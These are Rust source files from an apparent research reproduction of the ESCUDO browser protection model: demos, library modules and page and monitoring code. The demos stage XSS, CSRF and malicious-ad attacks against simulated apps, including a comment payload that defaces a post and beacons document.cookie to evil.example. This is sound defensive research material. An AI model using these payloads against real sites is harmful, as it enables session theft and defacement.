//! §6.3 — backwards compatibility in both directions.
//!
//! 1. An ESCUDO-configured application rendered by a *non-ESCUDO* browser: the AC
//!    attributes and policy headers are simply ignored, and the application still
//!    works (it falls back to the protection of the same-origin policy).
//! 2. A *legacy* application (no ESCUDO configuration) rendered by an ESCUDO browser:
//!    the page collapses to a single ring, so ESCUDO behaves exactly like the
//!    same-origin policy and nothing breaks.
//!
//! Run with: `cargo run --example legacy_compat`

use escudo::apps::{ForumApp, ForumConfig};
use escudo::browser::{Browser, PolicyMode};

fn main() {
    // Direction 1: ESCUDO-configured application, legacy (SOP-only) browser.
    {
        let mut browser = Browser::new(PolicyMode::SameOriginOnly);
        browser.network_mut().register(
            "http://forum.example",
            ForumApp::new(ForumConfig::default()),
        );
        browser
            .navigate("http://forum.example/login.php?user=alice")
            .unwrap();
        let page = browser.navigate("http://forum.example/index.php").unwrap();
        println!("ESCUDO application on a non-ESCUDO browser:");
        println!(
            "  page loaded:                {}",
            !browser.page(page).document.all_elements().is_empty()
        );
        println!(
            "  app script ran:             {}",
            browser.page(page).all_scripts_succeeded()
        );
        println!(
            "  status line set by script:  {:?}",
            browser.page(page).text_of("app-status").unwrap_or_default()
        );
        println!("  denials (should be 0):      {}", browser.erm().denials());
    }

    println!();

    // Direction 2: legacy application, ESCUDO browser.
    {
        let mut browser = Browser::new(PolicyMode::Escudo);
        browser
            .network_mut()
            .register("http://forum.example", ForumApp::new(ForumConfig::legacy()));
        browser
            .navigate("http://forum.example/login.php?user=alice")
            .unwrap();
        let page = browser.navigate("http://forum.example/index.php").unwrap();
        println!("Legacy application on the ESCUDO browser:");
        println!(
            "  treated as legacy page:     {}",
            browser.page(page).legacy
        );
        println!(
            "  app script ran:             {}",
            browser.page(page).all_scripts_succeeded()
        );
        println!(
            "  status line set by script:  {:?}",
            browser.page(page).text_of("app-status").unwrap_or_default()
        );
        println!("  denials (should be 0):      {}", browser.erm().denials());
    }

    println!();
    println!("Both directions work: ESCUDO can be deployed incrementally.");
}
