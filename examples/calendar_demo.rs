//! Using the PHP-Calendar-like application through the ESCUDO browser.
//!
//! Demonstrates Table 4/5: the application's own client-side code keeps all its
//! privileges (it updates the page and could use the session cookie and
//! XMLHttpRequest), while calendar events created by users are isolated from one
//! another and from the application content.
//!
//! Run with: `cargo run --example calendar_demo`

use escudo::apps::{CalendarApp, CalendarConfig};
use escudo::browser::{Browser, PolicyMode};

fn main() {
    let calendar = CalendarApp::new(CalendarConfig::vulnerable());
    let state = calendar.state();

    let mut browser = Browser::new(PolicyMode::Escudo);
    browser
        .network_mut()
        .register("http://calendar.example", calendar);

    // Log in and add two events through the real form-submission path.
    browser
        .navigate("http://calendar.example/login.php?user=alice")
        .unwrap();
    let page = browser
        .navigate("http://calendar.example/index.php")
        .unwrap();
    browser
        .submit_form(
            page,
            "add-event",
            &[
                ("title", "Standup"),
                ("day", "3"),
                ("description", "daily sync"),
            ],
        )
        .unwrap();
    let page = browser
        .navigate("http://calendar.example/index.php")
        .unwrap();
    browser
        .submit_form(
            page,
            "add-event",
            &[
                ("title", "Retro"),
                ("day", "7"),
                (
                    "description",
                    "<script>document.getElementById('event-1').innerHTML = 'cancelled';</script>",
                ),
            ],
        )
        .unwrap();

    // View the month. The second event carries a script that tries to rewrite the
    // first event — a cross-user integrity violation the ESCUDO configuration forbids.
    let page = browser
        .navigate("http://calendar.example/index.php")
        .unwrap();

    println!("Table 5 configuration in force:");
    for row in CalendarApp::escudo_config() {
        println!(
            "  {:<22} ring {}  (read ≤ {}, write ≤ {})",
            row.resource, row.ring, row.read, row.write
        );
    }
    println!();
    println!("Events stored on the server:");
    for event in &state.lock().unwrap().events {
        println!(
            "  #{} day {} {:?} by {}",
            event.id, event.day, event.title, event.author
        );
    }
    println!();
    println!(
        "Application status line (updated by the ring-1 app script): {:?}",
        browser.page(page).text_of("app-status").unwrap_or_default()
    );
    println!(
        "Event 1 text after loading the page:                        {:?}",
        browser.page(page).text_of("event-1").unwrap_or_default()
    );
    println!();
    for outcome in &browser.page(page).script_outcomes {
        if let Err(error) = &outcome.result {
            println!("Denied script (ran in {}): {}", outcome.ring, error);
        }
    }
    println!(
        "\nReference monitor: {} checks, {} denials — events are isolated from one another.",
        browser.erm().checks(),
        browser.erm().denials()
    );
}
