//! Quickstart: the paper's Figure 3 blog page.
//!
//! A blog post (ring 1), an advertising slot (ring 2) and reader comments (ring 3)
//! share one page. A malicious comment tries to rewrite the post and steal the session
//! cookie; under ESCUDO both attempts are denied by the reference monitor, while the
//! benign application script and the well-behaved ad keep working.
//!
//! Run with: `cargo run --example quickstart`

use escudo::apps::BlogApp;
use escudo::browser::{Browser, PolicyMode};
use escudo::net::Request;

fn main() {
    // A reader posts a malicious comment (the blog's input validation is off, so the
    // payload reaches the page verbatim — the browser is the last line of defense).
    let blog = BlogApp::new();
    let state = blog.state();
    state
        .lock()
        .unwrap()
        .comments
        .push(escudo::apps::blog::Comment {
            id: 1,
            author: "mallory".to_string(),
            body: "<script>\
               document.getElementById('post-body').innerHTML = 'buy cheap pills';\
               var beacon = document.createElement('img');\
               beacon.setAttribute('src', 'http://evil.example/steal?c=' + document.cookie);\
               document.body.appendChild(beacon);\
               </script>"
                .to_string(),
        });

    for mode in [PolicyMode::SameOriginOnly, PolicyMode::Escudo] {
        println!("== loading the blog under {mode} ==");
        let mut browser = Browser::new(mode);
        // Each browser gets its own copy of the application state so the two runs are
        // independent.
        let blog = BlogApp::new();
        blog.state()
            .lock()
            .unwrap()
            .comments
            .clone_from(&state.lock().unwrap().comments);
        browser.network_mut().register("http://blog.example", blog);
        browser
            .network_mut()
            .register("http://evil.example", |_req: &Request| {
                escudo::net::Response::ok_text("logged")
            });

        browser
            .navigate("http://blog.example/login?user=reader")
            .unwrap();
        let page = browser.navigate("http://blog.example/").unwrap();

        let post = browser.page(page).text_of("post-body").unwrap_or_default();
        println!("  post body ........... {post:?}");
        println!(
            "  ad slot ............. {:?}",
            browser
                .page(page)
                .text_of("ad-slot-text")
                .unwrap_or_default()
        );
        for outcome in &browser.page(page).script_outcomes {
            println!(
                "  script in {:<8} -> {}",
                outcome.ring.to_string(),
                match &outcome.result {
                    Ok(_) => "ran to completion".to_string(),
                    Err(e) => e.clone(),
                }
            );
        }
        let exfiltrated = browser
            .network()
            .requests_to("evil.example")
            .iter()
            .any(|r| r.url.query().contains("blog_session"));
        println!("  session cookie exfiltrated? {exfiltrated}");
        println!(
            "  reference monitor: {} checks, {} denials",
            browser.erm().checks(),
            browser.erm().denials()
        );
        println!();
    }

    println!("Under the same-origin policy the comment rewrites the post and leaks the cookie.");
    println!("Under ESCUDO both accesses violate the ring/ACL rules and the page is unharmed.");
}
