//! The introduction's advertising scenario.
//!
//! A publisher leases part of the blog page to an advertising network. With the
//! same-origin policy the publisher "has no further control over what appears in that
//! ad space"; with ESCUDO the ad slot is simply placed in ring 2, so a malicious
//! advertisement can restyle itself but cannot rewrite the publisher's content, read
//! the session cookie, or talk to the server with the reader's authority.
//!
//! Run with: `cargo run --example ad_sandbox`

use escudo::apps::BlogApp;
use escudo::browser::{Browser, PolicyMode};

const MALICIOUS_AD: &str = "\
    var slot = document.getElementById('ad-slot-text');\
    if (slot != null) { slot.innerHTML = 'TOTALLY LEGIT AD'; }\
    document.getElementById('post-body').innerHTML = 'The publisher endorses our pills!';";

fn main() {
    for mode in [PolicyMode::SameOriginOnly, PolicyMode::Escudo] {
        println!("== {mode} ==");
        let mut browser = Browser::new(mode);
        browser.network_mut().register(
            "http://blog.example",
            BlogApp::new().with_ad_script(MALICIOUS_AD),
        );
        browser
            .navigate("http://blog.example/login?user=reader")
            .unwrap();
        let page = browser.navigate("http://blog.example/").unwrap();

        println!(
            "  ad slot text:  {:?}",
            browser
                .page(page)
                .text_of("ad-slot-text")
                .unwrap_or_default()
        );
        println!(
            "  post body:     {:?}",
            browser.page(page).text_of("post-body").unwrap_or_default()
        );
        for outcome in &browser.page(page).script_outcomes {
            if let Err(error) = &outcome.result {
                println!("  ad script stopped: {error}");
            }
        }
        println!();
    }

    println!("The ring-2 advertisement may update its own slot, but the moment it reaches for");
    println!("the publisher's ring-1 content the write is denied — the publisher no longer has");
    println!("to trust the advertising network's verifier.");
}
