//! The introduction's advertising scenario, from one blog slot to an ad network.
//!
//! A publisher leases part of its page to advertising networks. With the
//! same-origin policy the publisher "has no further control over what appears in
//! that ad space"; with ESCUDO each slot sits in ring 2, so a malicious
//! advertisement can restyle itself but cannot rewrite the publisher's content,
//! read the session cookie, or talk to the server with the reader's authority.
//!
//! The first half walks through one rogue ad by hand; the second half runs the
//! advertising slice of the scenario registry — the single-slot blog and the
//! multi-origin ad network — cell by cell.
//!
//! Run with: `cargo run --example ad_sandbox`

use escudo::apps::scenario::{registry, MatrixReport, Scenario};
use escudo::apps::BlogApp;
use escudo::browser::{Browser, PolicyMode};

const MALICIOUS_AD: &str = "\
    var slot = document.getElementById('ad-slot-text');\
    if (slot != null) { slot.innerHTML = 'TOTALLY LEGIT AD'; }\
    document.getElementById('post-body').innerHTML = 'The publisher endorses our pills!';";

fn main() {
    for mode in [PolicyMode::SameOriginOnly, PolicyMode::Escudo] {
        println!("== {mode} ==");
        let mut browser = Browser::new(mode);
        browser.network_mut().register(
            "http://blog.example",
            BlogApp::new().with_ad_script(MALICIOUS_AD),
        );
        browser
            .navigate("http://blog.example/login?user=reader")
            .unwrap();
        let page = browser.navigate("http://blog.example/").unwrap();

        println!(
            "  ad slot text:  {:?}",
            browser
                .page(page)
                .text_of("ad-slot-text")
                .unwrap_or_default()
        );
        println!(
            "  post body:     {:?}",
            browser.page(page).text_of("post-body").unwrap_or_default()
        );
        for outcome in &browser.page(page).script_outcomes {
            if let Err(error) = &outcome.result {
                println!("  ad script stopped: {error}");
            }
        }
        println!();
    }

    // The same story as a registry slice: every advertising case — benign
    // restyles, rogue defacements, cookie exfiltration across N origins —
    // with its declared verdict per policy mode.
    let ad_slice: Vec<Scenario> = registry()
        .into_iter()
        .filter(|s| s.id == "blog" || s.id == "adnet")
        .collect();
    let report = MatrixReport::run(&ad_slice);
    println!(
        "Advertising slice of the scenario matrix ({} cells, {} unexpected):",
        report.cells(),
        report.unexpected().len()
    );
    for outcome in &report.outcomes {
        println!("  {outcome}");
    }

    println!();
    println!("The ring-2 advertisement may update its own slot, but the moment it reaches for");
    println!("the publisher's ring-1 content the write is denied — the publisher no longer has");
    println!("to trust the advertising network's verifier.");
}
