//! The §6.4 defense-effectiveness experiment, narrated for the phpBB-like forum.
//!
//! Pulls the forum entry out of the scenario registry and runs every one of its
//! cases — four XSS and five CSRF attacks — under both the same-origin-policy
//! baseline and ESCUDO, printing what happened to the server-side state in each
//! cell of the matrix.
//!
//! Run with: `cargo run --example forum_attack_demo`

use escudo::apps::scenario::{registry, CaseKind, Verdict};
use escudo::browser::PolicyMode;

fn main() {
    println!("phpBB-like forum: staged attacks (input validation and token checks disabled)");
    println!("{}", "-".repeat(78));

    let scenarios = registry();
    let forum = scenarios
        .iter()
        .find(|s| s.id == "forum")
        .expect("the registry carries the forum scenario");

    for kind in [CaseKind::Xss, CaseKind::Csrf] {
        let cases: Vec<_> = forum.cases.iter().filter(|c| c.kind == kind).collect();
        println!("\n{} ({} attacks):", heading(kind), cases.len());
        for case in cases {
            let sop = case.run(PolicyMode::SameOriginOnly);
            let escudo = case.run(PolicyMode::Escudo);
            print_pair(&case.name, sop.succeeded, escudo.succeeded, escudo.denials);
            assert_eq!(
                case.expected.expected(PolicyMode::Escudo),
                Verdict::from_success(escudo.succeeded),
                "{} deviated from its declared verdict",
                case.id
            );
        }
    }

    println!("\nEvery attack that succeeds under the same-origin policy is neutralized by ESCUDO,");
    println!("matching the paper: \"All the attacks were neutralized in the presence of ESCUDO.\"");
}

fn heading(kind: CaseKind) -> &'static str {
    match kind {
        CaseKind::Xss => "Cross-site scripting",
        CaseKind::Csrf => "Cross-site request forgery",
        CaseKind::Leak | CaseKind::Probe => "Other",
    }
}

fn print_pair(name: &str, sop_succeeded: bool, escudo_succeeded: bool, denials: u64) {
    println!(
        "  {:<62} SOP: {:<9} ESCUDO: {} ({} denials)",
        name,
        if sop_succeeded { "succeeds" } else { "blocked" },
        if escudo_succeeded {
            "SUCCEEDS (unexpected!)"
        } else {
            "neutralized"
        },
        denials
    );
}
