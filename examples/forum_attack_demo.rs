//! The §6.4 defense-effectiveness experiment, narrated for the phpBB-like forum.
//!
//! Stages the four XSS attacks and five CSRF attacks against the forum under both the
//! same-origin-policy baseline and ESCUDO, and prints what happened to the server-side
//! state in each case.
//!
//! Run with: `cargo run --example forum_attack_demo`

use escudo::apps::attacks::{forum_csrf_attacks, forum_xss_attacks};
use escudo::apps::evaluate::{run_csrf, run_xss};
use escudo::browser::PolicyMode;

fn main() {
    println!("phpBB-like forum: staged attacks (input validation and token checks disabled)");
    println!("{}", "-".repeat(78));

    println!("\nCross-site scripting (4 attacks):");
    for attack in forum_xss_attacks() {
        let sop = run_xss(PolicyMode::SameOriginOnly, &attack);
        let escudo = run_xss(PolicyMode::Escudo, &attack);
        print_pair(attack.name, sop.succeeded, escudo.succeeded, escudo.denials);
    }

    println!("\nCross-site request forgery (5 attacks):");
    for attack in forum_csrf_attacks() {
        let sop = run_csrf(PolicyMode::SameOriginOnly, &attack);
        let escudo = run_csrf(PolicyMode::Escudo, &attack);
        print_pair(attack.name, sop.succeeded, escudo.succeeded, escudo.denials);
    }

    println!("\nEvery attack that succeeds under the same-origin policy is neutralized by ESCUDO,");
    println!("matching the paper: \"All the attacks were neutralized in the presence of ESCUDO.\"");
}

fn print_pair(name: &str, sop_succeeded: bool, escudo_succeeded: bool, denials: u64) {
    println!(
        "  {:<62} SOP: {:<9} ESCUDO: {} ({} denials)",
        name,
        if sop_succeeded { "succeeds" } else { "blocked" },
        if escudo_succeeded {
            "SUCCEEDS (unexpected!)"
        } else {
            "neutralized"
        },
        denials
    );
}
