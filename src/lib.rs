//! # escudo
//!
//! Umbrella crate for the reproduction of *"ESCUDO: A Fine-grained Protection Model
//! for Web Browsers"* (Jayaraman, Du, Rajagopalan, Chapin — ICDCS 2010).
//!
//! It re-exports the workspace crates under one roof so examples, integration tests
//! and downstream users can depend on a single crate:
//!
//! | Module | Contents |
//! |--------|----------|
//! | [`core`] | rings, ACLs, origins, security contexts, the three MAC rules, the pluggable policy engine, configuration formats |
//! | [`net`] | in-memory HTTP substrate: URLs, requests/responses, cookies, the host registry |
//! | [`html`] | HTML tokenizer/tree builder with ESCUDO's nonce validation |
//! | [`dom`] | arena DOM |
//! | [`script`] | the ECMAScript-subset interpreter with mediated host bindings |
//! | [`browser`] | the browser engine: page loader, security-context table, reference monitor, renderer |
//! | [`apps`] | the phpBB/PHP-Calendar analogues, the blog, the attacker site, the attack corpus and the §6.4 harness |
//!
//! See `README.md` for the workspace tour, the quickstart and the engine
//! architecture diagram.
//!
//! # Quickstart
//!
//! ```
//! use escudo::browser::{Browser, PolicyMode};
//! use escudo::apps::BlogApp;
//!
//! let mut browser = Browser::new(PolicyMode::Escudo);
//! browser.network_mut().register("http://blog.example", BlogApp::new());
//! let page = browser.navigate("http://blog.example/").unwrap();
//! assert!(browser.page(page).text_of("post-body").is_some());
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub use escudo_apps as apps;
pub use escudo_browser as browser;
pub use escudo_core as core;
pub use escudo_dom as dom;
pub use escudo_html as html;
pub use escudo_net as net;
pub use escudo_script as script;
