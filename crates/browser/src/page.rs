//! A loaded page: the DOM, its security contexts, its scripts and its statistics.

use escudo_core::{Origin, Ring};
use escudo_dom::{Document, NodeId};
use escudo_html::ParseReport;
use escudo_net::Url;

use crate::context::SecurityContextTable;
use crate::render::RenderStats;

/// A script collected from the page, in document order, with the ring it runs in.
#[derive(Debug, Clone)]
pub struct ScriptUnit {
    /// The `script` element (or handler-carrying element) the code came from.
    pub node: NodeId,
    /// The script source.
    pub source: String,
    /// The ring the script executes in (the ring of the AC scope it appears in).
    pub ring: Ring,
}

/// The result of executing one script.
#[derive(Debug, Clone)]
pub struct ScriptOutcome {
    /// The element the script came from.
    pub node: NodeId,
    /// The ring the script ran in.
    pub ring: Ring,
    /// `Ok(final value as text)` or `Err(error message)`.
    pub result: Result<String, String>,
    /// `true` when the script was aborted by a reference-monitor denial.
    pub denied: bool,
}

impl ScriptOutcome {
    /// `true` when the script was stopped by the ESCUDO reference monitor.
    #[must_use]
    pub fn was_denied(&self) -> bool {
        self.denied
    }

    /// `true` when the script ran to completion without error.
    #[must_use]
    pub fn succeeded(&self) -> bool {
        self.result.is_ok()
    }
}

/// Timing and bookkeeping collected while loading a page — the quantities behind the
/// paper's Figure 4 ("parsing and rendering time") and the UI-event measurements.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct PageLoadStats {
    /// Time spent parsing the HTML into a DOM, in nanoseconds.
    pub parse_ns: u128,
    /// Time spent extracting security contexts (ESCUDO bookkeeping), in nanoseconds.
    pub label_ns: u128,
    /// Time spent executing the page's scripts, in nanoseconds.
    pub script_ns: u128,
    /// Time spent in layout/rendering, in nanoseconds.
    pub render_ns: u128,
    /// Reference-monitor checks performed during the load.
    pub policy_checks: u64,
    /// Denials issued during the load.
    pub policy_denials: u64,
    /// Decisions the shared engine served from its memoization cache (cumulative for
    /// the engine, like `policy_checks`).
    pub policy_cache_hits: u64,
    /// Subresource (`img`) fetches dispatched for this page — including ones whose
    /// dispatch failed (the per-subresource outcome records the error).
    pub subresource_requests: u64,
    /// Cookie-`use` denials issued while mediating this page's subresource
    /// requests (phase 1 of the pipelined loader, before any fetch is dispatched).
    pub subresource_denials: u64,
    /// Wall-clock time of the subresource fetch fan-out (phase 2), in nanoseconds.
    /// With the pipelined loader this is the *overlapped* time, not the sum of
    /// per-fetch times.
    pub subresource_fetch_ns: u128,
    /// Speculative background fetches submitted while loading this page
    /// (markup `rel=prefetch` hints plus visited-link predictions).
    pub prefetch_issued: u64,
    /// `true` when this page's own navigation fetch was served from the
    /// fabric's prefetch cache (the mediation plan matched, so the cached
    /// response is byte-identical to what a live dispatch would have returned).
    pub prefetch_hit: bool,
}

impl PageLoadStats {
    /// Parse + label + render time: the quantity Figure 4 plots.
    #[must_use]
    pub fn parse_and_render_ns(&self) -> u128 {
        self.parse_ns + self.label_ns + self.render_ns
    }

    /// Total accounted time including script execution.
    #[must_use]
    pub fn total_ns(&self) -> u128 {
        self.parse_and_render_ns() + self.script_ns
    }
}

/// Which scheduler lane a planned subresource rides: render-critical resources
/// (stylesheets, external scripts) preempt bulk image traffic in the fetch
/// pool's priority queue.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum SubresourceKind {
    /// Render-blocking (`link rel=stylesheet`, `script src`) — navigation lane.
    Critical,
    /// Image (`img src`) — bulk lane.
    Image,
}

/// The recorded outcome of one subresource fetch. Outcomes are recorded in
/// **plan order** (critical resources in document order, then images in
/// document order) regardless of which pipelined worker finished first — the
/// mediation plan is fixed before any fetch is dispatched, and results are
/// placed back by plan index.
#[derive(Debug, Clone)]
pub struct SubresourceOutcome {
    /// The element that issued the request.
    pub node: NodeId,
    /// The scheduler lane the fetch rode (critical vs. bulk image).
    pub kind: SubresourceKind,
    /// The resolved request URL.
    pub url: Url,
    /// Names of the cookies the reference monitor admitted onto the request
    /// (decided in phase 1, before the fetch was dispatched).
    pub attached_cookies: Vec<String>,
    /// The response status, when the dispatch reached a server.
    pub status: Option<u16>,
    /// The dispatch error, when it did not (e.g. the host became unreachable,
    /// or a faulted origin exhausted the session's retry budget — subresource
    /// failures degrade into this field rather than failing the page).
    pub error: Option<String>,
    /// Retries the session's [`FetchPolicy`](escudo_net::FetchPolicy) spent on
    /// this fetch (0 when it succeeded first try or the policy is disabled).
    pub retries: u32,
}

impl SubresourceOutcome {
    /// `true` when the fetch reached a server and came back 2xx.
    #[must_use]
    pub fn succeeded(&self) -> bool {
        self.status.is_some_and(|s| (200..300).contains(&s))
    }
}

/// A fully loaded page.
#[derive(Debug, Clone)]
pub struct Page {
    /// The URL the page was loaded from.
    pub url: Url,
    /// The page's origin.
    pub origin: Origin,
    /// The DOM.
    pub document: Document,
    /// The security-context table (node labels, cookie policies, API rings).
    pub contexts: SecurityContextTable,
    /// Scripts found in the page, in document order.
    pub scripts: Vec<ScriptUnit>,
    /// Outcomes of the scripts executed so far.
    pub script_outcomes: Vec<ScriptOutcome>,
    /// Per-subresource fetch outcomes, in document order.
    pub subresources: Vec<SubresourceOutcome>,
    /// `link rel=prefetch` speculation hints (raw `href` values), in document
    /// order, extracted once at load time alongside the scripts.
    pub prefetch_hints: Vec<String>,
    /// The parser's report (including rejected node-splitting end tags).
    pub parse_report: ParseReport,
    /// Rendering statistics from the last layout pass.
    pub render_stats: RenderStats,
    /// Load timing and policy counters.
    pub stats: PageLoadStats,
    /// `true` when the page carried no ESCUDO configuration and is treated as a legacy
    /// (same-origin-policy) page.
    pub legacy: bool,
}

impl Page {
    /// Shorthand: the text content of the element with the given `id` attribute.
    #[must_use]
    pub fn text_of(&self, id: &str) -> Option<String> {
        let node = self.document.get_element_by_id(id)?;
        Some(self.document.text_content(node))
    }

    /// Shorthand: whether any script in the page was denied by the reference monitor.
    #[must_use]
    pub fn any_script_denied(&self) -> bool {
        self.script_outcomes.iter().any(ScriptOutcome::was_denied)
    }

    /// Shorthand: whether every script ran to completion.
    #[must_use]
    pub fn all_scripts_succeeded(&self) -> bool {
        self.script_outcomes.iter().all(ScriptOutcome::succeeded)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn stats_compose() {
        let stats = PageLoadStats {
            parse_ns: 10,
            label_ns: 5,
            script_ns: 20,
            render_ns: 15,
            policy_checks: 3,
            policy_denials: 1,
            policy_cache_hits: 2,
            subresource_requests: 4,
            subresource_denials: 1,
            subresource_fetch_ns: 40,
            prefetch_issued: 2,
            prefetch_hit: true,
        };
        assert_eq!(stats.parse_and_render_ns(), 30);
        assert_eq!(stats.total_ns(), 50);
    }

    #[test]
    fn subresource_outcome_success_requires_a_2xx_status() {
        let mut outcome = SubresourceOutcome {
            node: escudo_dom::Document::new().create_element("img"),
            kind: SubresourceKind::Image,
            url: Url::parse("http://img.example/a.png").unwrap(),
            attached_cookies: vec!["sid".into()],
            status: Some(200),
            error: None,
            retries: 0,
        };
        assert!(outcome.succeeded());
        outcome.status = Some(404);
        assert!(!outcome.succeeded());
        outcome.status = None;
        outcome.error = Some("host unreachable".into());
        assert!(!outcome.succeeded());
    }

    #[test]
    fn script_outcome_flags() {
        let denied = ScriptOutcome {
            node: escudo_dom::Document::new().create_element("script"),
            ring: Ring::new(3),
            result: Err("access denied: ring rule".into()),
            denied: true,
        };
        assert!(denied.was_denied());
        assert!(!denied.succeeded());
    }
}
