//! One coherent observability surface for the whole control plane.
//!
//! Every layer of the stack keeps its own counters — the engine's cache
//! shards, the reference monitor's check/denial/audit-drop tallies, the cookie
//! jar's shard statistics, the network fabric's request log, prefetch cache and
//! fetch-pool lanes, and each tenant's admission bucket. Before this module,
//! some of those counters ([`Erm::audit_dropped`], the
//! [`SameOriginEngine`](escudo_core::SameOriginEngine) baseline's stats) had no
//! exported surface at all: they could be asserted in unit tests but never
//! observed from a running deployment.
//!
//! [`ControlPlaneSnapshot`] gathers all of them into a single struct with a
//! **stable field layout** ([`ControlPlaneSnapshot::fields`]): every snapshot
//! renders the same keys in the same order, so the benches' `--json` writer can
//! export it verbatim and the trajectory comparator can diff snapshots across
//! commits without schema drift.

use escudo_core::tenant::{AdmissionStats, TenantConfig, TenantRegistry};
use escudo_core::EngineStats;
use escudo_net::{JarStats, SharedCookieJar, SharedNetwork};

use crate::browser::Browser;
use crate::erm::Erm;

/// Counters of one [`Erm`] reference monitor, including the audit-ring drop
/// counter that previously had no exported surface.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ErmCounters {
    /// Total mediated checks.
    pub checks: u64,
    /// Checks that were denied (including admission-control shedding).
    pub denials: u64,
    /// Audit records currently retained in the ring.
    pub audit_retained: u64,
    /// Bound on retained audit records.
    pub audit_capacity: u64,
    /// Audit records dropped because the ring was full.
    pub audit_dropped: u64,
}

impl ErmCounters {
    /// Reads the counters of `erm`.
    #[must_use]
    pub fn gather(erm: &Erm) -> Self {
        ErmCounters {
            checks: erm.checks(),
            denials: erm.denials(),
            audit_retained: erm.audit().len() as u64,
            audit_capacity: erm.audit_capacity() as u64,
            audit_dropped: erm.audit_dropped(),
        }
    }
}

/// Counters of one [`SharedNetwork`] fabric: request log, prefetch cache and
/// the persistent fetch pool's lane/preemption tallies.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct FabricCounters {
    /// Requests currently resident in the bounded log.
    pub log_len: u64,
    /// Bound on retained log entries.
    pub log_capacity: u64,
    /// Log entries dropped because the log was full.
    pub dropped_log_entries: u64,
    /// Navigations served from the prefetch cache.
    pub prefetch_hits: u64,
    /// Prefetched entries discarded because their mediation plan went stale.
    pub prefetch_stale_discards: u64,
    /// Entries resident in the prefetch cache.
    pub prefetched_entries: u64,
    /// Workers in the persistent fetch pool.
    pub pool_workers: u64,
    /// Jobs the pool's parked workers have executed.
    pub pool_jobs_executed: u64,
    /// Bulk-lane jobs preempted by navigation-lane arrivals.
    pub pool_preemptions: u64,
    /// Failing faults injected by installed fault plans (timeouts + panics).
    pub fault_injected: u64,
    /// Dispatches slowed by an injected `SlowBy` schedule.
    pub fault_slowdowns: u64,
    /// Retry attempts granted across all resilient dispatches.
    pub retry_attempts: u64,
    /// Resilient dispatches that succeeded only after retrying.
    pub retry_successes: u64,
    /// Retries refused because a batch deadline budget ran dry.
    pub retry_deadline_exhausted: u64,
    /// Circuit-breaker trips (including half-open re-trips).
    pub breaker_trips: u64,
    /// Half-open probes admitted after a breaker cooldown.
    pub breaker_probes: u64,
    /// Breakers closed by a successful half-open probe.
    pub breaker_recoveries: u64,
    /// Dispatches refused outright by an open breaker.
    pub breaker_fast_fails: u64,
    /// Fetches served from persistent response-cache entries (zero-copy hits).
    pub cache_hits: u64,
    /// Cache entries discarded because their freshness TTL had lapsed.
    pub cache_expired: u64,
    /// Cache entries evicted by the per-shard LRU capacity bound.
    pub cache_evictions: u64,
    /// Responses inserted into the cache (both layers).
    pub cache_stored: u64,
    /// Duplicate plan slots served by batch-level single-flight coalescing.
    pub cache_coalesced: u64,
    /// Entries currently resident in the response cache (both layers).
    pub cache_entries: u64,
}

impl FabricCounters {
    /// Reads the counters of `fabric`.
    #[must_use]
    pub fn gather(fabric: &SharedNetwork) -> Self {
        FabricCounters {
            log_len: fabric.log_len() as u64,
            log_capacity: fabric.log_capacity() as u64,
            dropped_log_entries: fabric.dropped_log_entries(),
            prefetch_hits: fabric.prefetch_hits(),
            prefetch_stale_discards: fabric.prefetch_stale_discards(),
            prefetched_entries: fabric.prefetched_entries() as u64,
            pool_workers: fabric.fetch_pool_workers() as u64,
            pool_jobs_executed: fabric.fetch_pool_jobs_executed(),
            pool_preemptions: fabric.fetch_pool_preemptions(),
            fault_injected: fabric.faults_injected(),
            fault_slowdowns: fabric.fault_slowdowns(),
            retry_attempts: fabric.retry_attempts(),
            retry_successes: fabric.retry_successes(),
            retry_deadline_exhausted: fabric.retry_deadline_exhausted(),
            breaker_trips: fabric.breaker_trips(),
            breaker_probes: fabric.breaker_probes(),
            breaker_recoveries: fabric.breaker_recoveries(),
            breaker_fast_fails: fabric.breaker_fast_fails(),
            cache_hits: fabric.cache_hits(),
            cache_expired: fabric.cache_expired(),
            cache_evictions: fabric.cache_evictions(),
            cache_stored: fabric.cache_stored(),
            cache_coalesced: fabric.cache_coalesced(),
            cache_entries: fabric.cache_entries() as u64,
        }
    }
}

/// One tenant's slice of the control plane: its engine generation, the
/// generation's cache statistics, its admission bucket and its fetch fault
/// budget (the [`FetchPolicy`](escudo_net::FetchPolicy) posture tenant-bound
/// sessions dispatch under).
#[derive(Debug, Clone)]
pub struct TenantSnapshot {
    /// The tenant id.
    pub id: String,
    /// The currently published engine generation.
    pub generation: u64,
    /// The current generation's engine statistics.
    pub engine: EngineStats,
    /// The tenant's admission-control counters.
    pub admission: AdmissionStats,
    /// The tenant's configuration (admission posture + fetch fault budget).
    pub config: TenantConfig,
}

/// A one-word judgement over a [`ControlPlaneSnapshot`]'s own fields: is this
/// deployment keeping up, visibly straining, or shedding so hard its numbers
/// can no longer be trusted?
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum HealthVerdict {
    /// All thresholds comfortably clear.
    Ok,
    /// Operating, but losing fidelity: noticeable admission shedding, audit
    /// records dropping, log entries dropping, or a mostly-stale prefetch
    /// cache.
    Degraded,
    /// Shedding or dropping a majority of its work — counters understate what
    /// actually happened.
    Failing,
}

impl HealthVerdict {
    /// A stable numeric code for JSON export: `Ok` = 0, `Degraded` = 1,
    /// `Failing` = 2.
    #[must_use]
    pub fn code(self) -> u64 {
        match self {
            HealthVerdict::Ok => 0,
            HealthVerdict::Degraded => 1,
            HealthVerdict::Failing => 2,
        }
    }
}

impl std::fmt::Display for HealthVerdict {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let word = match self {
            HealthVerdict::Ok => "ok",
            HealthVerdict::Degraded => "degraded",
            HealthVerdict::Failing => "failing",
        };
        write!(f, "{word}")
    }
}

/// The unified observability snapshot of ISSUE 7: engine + reference monitor +
/// cookie jar + network fabric + per-tenant admission, in one struct.
#[derive(Debug, Clone)]
pub struct ControlPlaneSnapshot {
    /// Statistics of the engine the observed session currently enforces
    /// through (works for [`EscudoEngine`](escudo_core::EscudoEngine) and the
    /// [`SameOriginEngine`](escudo_core::SameOriginEngine) baseline alike).
    pub engine: EngineStats,
